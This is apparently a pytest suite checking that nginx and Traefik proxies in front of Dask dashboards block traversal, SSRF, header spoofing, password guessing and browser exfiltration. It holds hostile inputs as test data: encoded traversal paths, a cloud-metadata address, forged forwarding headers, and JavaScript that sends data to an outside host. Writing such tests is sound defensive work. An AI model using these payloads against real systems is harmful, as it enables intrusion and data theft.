# Copyright: (c) 2026, The flotilla.dask contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Real proxies before real dashboards: they show the plan's pages, and nothing gets past them in either direction."""

from __future__ import annotations

import contextlib
import os
import pwd
import subprocess
import typing as t
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from playwright.sync_api import Page, sync_playwright

from ansible_collections.flotilla.dask.plugins.module_utils.launch.front import cluster_endpoints
from ansible_collections.flotilla.dask.plugins.module_utils.launch.proxy import HEADERS, proxy_site
from ansible_collections.flotilla.dask.tests.cluster.conftest import ROOT, SECONDS, Cluster, free_ports
from ansible_collections.flotilla.dask.tests.cluster.proxies import (
    ALICE,
    BOB,
    IMPLEMENTATIONS,
    LOOPBACK,
    USERS,
    Proxy,
    Stranger,
    running,
)

WORKER_PORT = 29999
"""Of the one worker that stands before a stranger."""


def site(implementation: str, endpoints: list[dict[str, t.Any]], **variables: t.Any) -> dict[str, t.Any]:
    https_port, http_port = free_ports(2)
    return proxy_site(
        {
            "host": "here",
            "plan": {"address": LOOPBACK, "processes": [], "tls": True},
            "endpoints": endpoints,
            "beside": [],
            "dask_cluster_name": "main",
            "dask_proxy_implementation": implementation,
            "dask_proxy_prefix": "/lab",
            "dask_proxy_https_port": https_port,
            "dask_proxy_http_port": http_port,
            "dask_proxy_users": USERS,
            **variables,
        }
    )


@contextlib.contextmanager
def before(stranger: Stranger, implementation: str, **variables: t.Any) -> t.Iterator[Proxy]:
    """A proxy whose scheduler and only worker are one that answers everything."""
    here: dict[str, t.Any] = {"host": "here", "address": LOOPBACK, "http": stranger.address}
    endpoints = [{**here, "kind": "scheduler"}, {**here, "kind": "worker", "http_port": WORKER_PORT}]
    with running(implementation, site(implementation, endpoints, **variables)) as proxy:
        yield proxy


@pytest.fixture(scope="module", params=IMPLEMENTATIONS)
def hostile(request: pytest.FixtureRequest) -> t.Iterator[tuple[Proxy, Stranger]]:
    """A proxy before a dashboard that says whatever could do harm."""
    says = {
        "X-Accel-Redirect": "/.dask/main",
        "Set-Cookie": "session=evil; Domain=lab.example",
        "WWW-Authenticate": 'Basic realm="your password, please"',
        "Content-Security-Policy": "default-src *",
        "Cache-Control": "public, max-age=1000",
        "Expires": "Fri, 01 Jan 2100 00:00:00 GMT",
        "X-Frame-Options": "ALLOWALL",
        "Access-Control-Allow-Origin": "*",
        "Service-Worker-Allowed": "/",
        "Refresh": "0; url=https://evil.example",
        "Server": "Evil/1.0",
    }
    server = Stranger(headers=says)
    with server.serving(), before(server, request.param) as proxy:
        yield proxy, server


@pytest.fixture
def stranger(hostile: tuple[Proxy, Stranger]) -> Stranger:
    hostile[1].asked.clear()
    return hostile[1]


WORKER = f"/proxy/{WORKER_PORT}/{LOOPBACK}"
ELSEWHERE = [
    # What is for the proxy itself.
    *("/log-in/main", "/.dask/main"),
    *("/proxy/1/x/log-in/main", "/proxy/1/x/configuration", "/proxy/1/x/.dask/main"),
    *(f"{WORKER}/log-in/main", f"{WORKER}/configuration/", f"{WORKER}/.dask/main"),
    # Other hosts and ports.
    *("/proxy/", "/proxy/22/", f"/proxy/22/{LOOPBACK}/status", f"/proxy/{WORKER_PORT}/localhost/status"),
    *(
        f"/proxy/{WORKER_PORT}/0.0.0.0/status",
        f"/proxy/0{WORKER_PORT}/{LOOPBACK}/status",
        "/proxy/80/169.254.169.254/a",
    ),
    *(
        f"{WORKER}:22/status",
        f"{WORKER}@evil/status",
        f"{WORKER}./status",
        f"{WORKER}%00/status",
        f"{WORKER}%0a/status",
    ),
    # Through the scheduler's or the worker's own proxy.
    *(f"{WORKER}/proxy/22/{LOOPBACK}/status", f"{WORKER}/proxy/1/x/ws", "/info/proxy/1/x/status"),
    *(f"{WORKER}/../../22/{LOOPBACK}/status", f"{WORKER}/..%2f..%2f22/{LOOPBACK}/status"),
    *(f"{WORKER}/%2e%2e/%2e%2e/22/{LOOPBACK}/status", f"/%70roxy/22/{LOOPBACK}/status", "/status/../proxy/1/x/status"),
    *("/proxy%2f1%2fx%2fstatus", "/%2570roxy/1/x/status", "//proxy/1/x/status", "/./proxy/1/x/status"),
    *("/info/main/..%2f..%2fproxy/1/x/status", "/info/%2e%2e/proxy/1/x/status", "/PROXY/1/x/status"),
    *("/proxy;x=1/1/x/status", "/proxy/1\\x\\status", "/statics/..%2fproxy/1/x/status"),
    # What changes something, or executes code.
    *("/api/v1", "/api/v1/retire_workers", "/%61pi/v1/retire_workers", "//api/v1/retire_workers", "/api%2fv1"),
    *("/jupyter/", "/jupyter/lab", "/jupyter/api/kernels/1/channels", "/jupyter/terminals/websocket/1"),
    *(f"{WORKER}/api/v1/retire_workers", f"{WORKER}/jupyter/lab", "/statics/../api/v1", "/status/autoload.js"),
    *("/sitemap.json", "/status/", "/status%0a", "/STATUS", "/status;x"),
]
REFUSED = (400, 404)


@pytest.mark.parametrize("path", ELSEWHERE)
def test_only_pages_of_the_plan_are_reached(hostile: tuple[Proxy, Stranger], stranger: Stranger, path: str) -> None:
    proxy, _stranger = hostile
    assert proxy.ask(path).status in REFUSED
    assert proxy.ask(path, None).status in (*REFUSED, 401)
    assert stranger.asked == []


WEBSOCKET = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec_WebSocket_Version": "13",
    "Sec_WebSocket_Key": 22 * "A" + "==",
}
SOCKETS = [
    *("/proxy/1/x/ws", "/proxy/1/x/status/ws", f"/proxy/22/{LOOPBACK}/ws", f"{WORKER}/proxy/1/x/ws"),
    *("/jupyter/terminals/websocket/1", "/jupyter/api/kernels/1/channels", "/log-in/main", "/api/ws/ws"),
]


@pytest.mark.parametrize("path", SOCKETS)
def test_no_websocket_leads_elsewhere(hostile: tuple[Proxy, Stranger], stranger: Stranger, path: str) -> None:
    assert hostile[0].ask(path, headers=WEBSOCKET).status in REFUSED
    assert stranger.asked == []


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT"])
@pytest.mark.parametrize("path", ["/status", "/api/v1/retire_workers", f"{WORKER}/status"])
def test_nothing_is_changed(hostile: tuple[Proxy, Stranger], stranger: Stranger, method: str, path: str) -> None:
    body = b'{"n": 1}' if method in ("POST", "PUT", "PATCH") else None
    assert hostile[0].ask(path, method=method, body=body).status in (*REFUSED, 405, 501)
    assert stranger.asked == []


def test_a_body_reaches_nobody_before_the_next_request(hostile: tuple[Proxy, Stranger], stranger: Stranger) -> None:
    """A length without a body would make the next request a part of it."""
    assert [hostile[0].ask("/status", body=b'{"n": 1}').status, hostile[0].ask("/health").status] == [200, 200]
    assert stranger.paths() == ["/status", "/health"]
    if hostile[0].implementation == "nginx":
        assert not any("Content-Length" in headers for _line, headers in stranger.asked)


# What the outside could say about itself, and what is between it and the proxy.
SAID = {
    "X_Forwarded_For": "6.6.6.6",
    "X_Forwarded_Host": "evil.example",
    "X_Forwarded_Proto": "evil",
    "X_Forwarded_Port": "666",
    "X_Forwarded_Server": "evil.example",
    "X_Forwarded_Prefix": "/evil",
    "X_Forwarded_Uri": "/evil",
    "X_Forwarded_User": "evil",
    "X_Forwarded_Ssl": "evil",
    "X_Forwarded": "for=evil",
    "Forwarded": "for=evil",
    "X_Real_IP": "6.6.6.6",
    "X_Client_IP": "6.6.6.6",
    "True_Client_IP": "6.6.6.6",
    "CF_Connecting_IP": "6.6.6.6",
    "X_Cluster_Client_IP": "6.6.6.6",
    "X_Original_URI": "/evil",
    "X_Original_URL": "/evil",
    "X_Original_Method": "evil",
    "X_Rewrite_URL": "/evil",
    "X_HTTP_Method_Override": "evil",
    "X_Scheme": "evil",
    "Remote_User": "evil",
    "X_Remote_User": "evil",
    "Proxy": "http://evil.example",
    "Via": "1.1 evil",
    "Cookie": "session=evil",
}


def test_dashboards_are_told_nothing_that_the_outside_says_about_itself(
    hostile: tuple[Proxy, Stranger], stranger: Stranger
) -> None:
    for path in ("/status", f"{WORKER}/status"):
        assert hostile[0].ask(path, headers=SAID).status == 200
    for _line, headers in stranger.asked:
        assert not any(said in str(headers) for said in ("evil", "6.6.6.6"))
        assert headers["X-Forwarded-For"] == LOOPBACK
        assert "Authorization" not in headers, "the account of the cluster must not learn passwords"
    assert len(stranger.asked) == 2


def test_browsers_are_told_nothing_that_a_dashboard_says_to_them(hostile: tuple[Proxy, Stranger]) -> None:
    for path in ("/status", f"{WORKER}/status"):
        answer = hostile[0].ask(path)
        assert answer.status == 200
        for name in (
            "Set-Cookie",
            "WWW-Authenticate",
            "Access-Control-Allow-Origin",
            "Service-Worker-Allowed",
            "Refresh",
        ):
            assert name not in answer.headers
        assert answer.headers.get("Server") in (None, "nginx")
        assert "Expires" not in answer.headers
        assert {name: answer.headers.get_all(name) for name in HEADERS} == {
            name: [each] for name, each in HEADERS.items()
        }


def test_nothing_that_a_log_in_protects_is_kept(hostile: tuple[Proxy, Stranger]) -> None:
    for path, user in (("/status", ALICE), ("/statics/a.css", ALICE), ("/nothing/here", ALICE), ("/status", None)):
        assert hostile[0].ask(path, user).headers["Cache-Control"] == "no-store"


def test_somebody_elses_page_opens_no_websocket(hostile: tuple[Proxy, Stranger], stranger: Stranger) -> None:
    for origin in ("https://evil.example", "null", "http://" + LOOPBACK):
        assert hostile[0].ask("/status/ws", headers={**WEBSOCKET, "Origin": origin}).status in (403, 404)
    assert stranger.asked == []


def statuses(proxy: Proxy, names: t.Sequence[str]) -> set[int]:
    """What wrong passwords are answered with; all are tried at once, as those who guess do."""
    with ThreadPoolExecutor(20) as pool:
        guesses = [(name, f"guess {number}") for number, name in enumerate(names)]
        return {answer.status for answer in pool.map(lambda guess: proxy.ask("/health", guess), guesses)}


# nginx: failed log-ins a minute. Traefik: requests a second, and so many seconds of them at once.
LIMITS = {"nginx": (5, 6), "traefik": (1, 10)}


@pytest.mark.parametrize("implementation", IMPLEMENTATIONS)
def test_failed_log_ins_count_by_address_and_name(implementation: str) -> None:
    limit, at_once = LIMITS[implementation]
    with Stranger().serving() as stranger, before(
        stranger, implementation, dask_proxy_log_ins_per_minute=limit
    ) as proxy:
        assert statuses(proxy, 10 * at_once * ["bob"]) == {401, 429}
        # Others behind the same address go on, and can begin.
        assert proxy.ask("/health").status == 200
        assert proxy.ask("/health", None).status == 401, "a browser asks without a password first"
        # Names that nobody has are counted as one, and as no other.
        assert statuses(proxy, [f"nobody{each}" for each in range(10 * at_once)]) == {401, 429}
        assert proxy.ask("/health").status == 200
        # Who has the name comes in from elsewhere.
        assert proxy.ask("/health", BOB, source="127.0.0.2").status == 200


def test_who_has_logged_in_is_not_counted_again() -> None:
    """Not even where somebody else guesses at the name from the same address."""
    with Stranger().serving() as stranger, before(stranger, "nginx", dask_proxy_log_ins_per_minute=5) as proxy:
        assert {proxy.ask("/health").status for _each in range(30)} == {200}
        assert statuses(proxy, 30 * ["alice"]) == {401, 429}
        assert proxy.ask("/health").status == 200
        refused = proxy.ask("/health", ("alice", "another guess"))
        assert (refused.status, refused.headers["Retry-After"]) == (429, "60")


@pytest.mark.parametrize("implementation", IMPLEMENTATIONS)
def test_a_service_that_is_asked_gets_cookies_and_nothing_else_of_the_outside(
    implementation: str,
) -> None:
    with Stranger().serving() as stranger, Stranger().serving() as service, before(
        stranger,
        implementation,
        dask_proxy_users={},
        dask_proxy_auth_request=f"http://{service.address}/auth",
    ) as proxy:
        service.asked.clear()
        stranger.asked.clear()
        assert proxy.ask("/status", headers={**SAID, "Cookie": "session=alice"}).status == 200
        ((_line, headers),) = service.asked
        assert headers["Cookie"] == "session=alice"
        assert "Authorization" in headers
        assert not any(said in str(headers) for said in ("evil", "6.6.6.6"))
        assert headers["X-Forwarded-For"] == LOOPBACK
        ((_line, headers),) = stranger.asked
        assert not {"Cookie", "Authorization"} & set(headers)
        service.status = 401
        assert proxy.ask("/status").status == 401
        assert len(stranger.asked) == 1


@pytest.mark.parametrize("implementation", IMPLEMENTATIONS)
def test_clusters_that_share_a_proxy_have_their_own_paths_and_users(implementation: str) -> None:
    with Stranger().serving() as stranger, Stranger().serving() as other:
        endpoints = [{"host": "here", "address": LOOPBACK, "http": other.address, "kind": "scheduler"}]
        only_bob = {"bob": USERS["bob"]}
        beside = site(
            implementation, endpoints, dask_cluster_name="all", dask_proxy_prefix="/", dask_proxy_users=only_bob
        )["cluster"]
        with before(stranger, implementation, beside=[beside]) as proxy:
            stranger.asked.clear()
            other.asked.clear()
            assert proxy.ask("/status").status == 200
            proxy.site["cluster"]["prefix"] = "/"
            assert proxy.ask("/status", BOB).status == 200
            assert proxy.ask("/statics/a.css", BOB).status == 200
            assert proxy.ask("/status").status == 401
            assert (stranger.paths(), other.paths()) == (["/status"], ["/status", "/statics/a.css"])


@pytest.fixture(params=IMPLEMENTATIONS)
def proxy(request: pytest.FixtureRequest, cluster: Cluster) -> t.Iterator[Proxy]:
    """A proxy before the dashboards of a real cluster."""
    served = site(request.param, cluster_endpoints({"here": cluster.plan}))
    account = pwd.getpwnam("www-data" if request.param == "nginx" else "root")
    Path(cluster.plan["directories"]["readers"]).write_text("{0.pw_uid} {0.pw_name}\n".format(account))
    with running(request.param, served) as proxy:
        yield proxy


@pytest.fixture
def page(proxy: Proxy) -> t.Iterator[Page]:
    """A browser that has logged in. It begins after the cluster, whose fixture needs an event loop of its own."""
    path = subprocess.run([ROOT / "tests/fixtures/chromium"], check=True, capture_output=True, text=True).stdout.strip()
    name, password = ALICE
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"] if os.geteuid() == 0 else [])
        window = browser.new_context(
            base_url=proxy.url + "/",
            ignore_https_errors=True,
            http_credentials={"username": name, "password": password},
        )
        window.set_default_timeout(SECONDS * 1000)
        yield window.new_page()


def test_the_pages_of_dask_are_there(proxy: Proxy) -> None:
    worker = next(iter(proxy.site["cluster"]["workers"]))
    pages = ["/status", "/metrics", "/health", "/info/main/workers.html", "/json/counts.json", "/statics/css/base.css"]
    pages += [f"/proxy/{worker}{page}" for page in ("/status", "/metrics", "/statics/css/base.css")]
    assert {page: proxy.ask(page).status for page in pages} == dict.fromkeys(pages, 200)
    links = [part.split('"')[0] for part in proxy.ask("/info/main/workers.html").body.split('href="../')[1:]]
    assert any("%3A%2F%2F" in link for link in links), "addresses of workers are in links"
    leads_to = {link: proxy.ask(f"/info/main/../{link}".replace("/main/..", "", 1)).status for link in links}
    assert {status for link, status in leads_to.items() if link.startswith(("worker", "logs"))} == {200}
    assert proxy.ask("/eventstream", headers={**WEBSOCKET, "Origin": proxy.site["origins"][0]}).status == 101
    for path in ("/statics/..%2f..%2fproxy.py", "/configuration", "/api", "/jupyter", "/proxy"):
        assert proxy.ask(path).status in REFUSED


PAGES = ["status", "workers", "tasks", "system", "graph", "groups", "individual-workers", "individual-task-stream"]


def test_pages_work_with_the_policy_that_browsers_are_given(page: Page, proxy: Proxy) -> None:
    problems: list[str] = []
    page.on("console", lambda said: problems.append(said.text) if "Content Security Policy" in said.text else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    worker = next(iter(proxy.site["cluster"]["workers"]))
    for path in [*PAGES, f"proxy/{worker}/status", f"proxy/{worker}/system"]:
        with page.expect_websocket() as socket:
            page.goto(path)
        assert socket.value.url.endswith("/ws")
        # Bokeh has this only once its websocket has told it what there is to draw.
        page.wait_for_function("() => window.Bokeh && Bokeh.documents.length && Bokeh.documents[0].is_idle")
    page.goto("info/main/workers.html")
    assert page.locator("tbody tr").count() == len(proxy.site["cluster"]["workers"])
    assert problems == []


# What a changed dashboard could do in the browser of who looks at it.
ATTACKS = [
    ("connect-src", "fetch('http://{0}/stolen')"),
    ("connect-src", "new WebSocket('ws://{0}/stolen')"),
    ("img-src", "new Image().src = 'http://{0}/stolen'"),
    (
        "script-src-elem",
        "document.head.append(Object.assign(document.createElement('script'), {{src: 'http://{0}/stolen'}}))",
    ),
    ("worker-src", "navigator.serviceWorker.register('/lab/statics/js/sortable.min.js')"),
]


def test_a_page_tells_nobody_else(page: Page) -> None:
    with Stranger().serving() as stranger:
        page.goto("status")
        for directive, attack in ATTACKS:
            blocked = page.evaluate(
                """attack => new Promise(answer => {
                    setTimeout(answer, 60000, "nothing");
                    document.addEventListener("securitypolicyviolation",
                        event => answer(event.effectiveDirective), {once: true});
                    try { Promise.resolve(eval(attack)).catch(() => {}); } catch (error) {}
                })""",
                attack.format(stranger.address),
            )
            assert blocked == directive
        assert stranger.asked == []
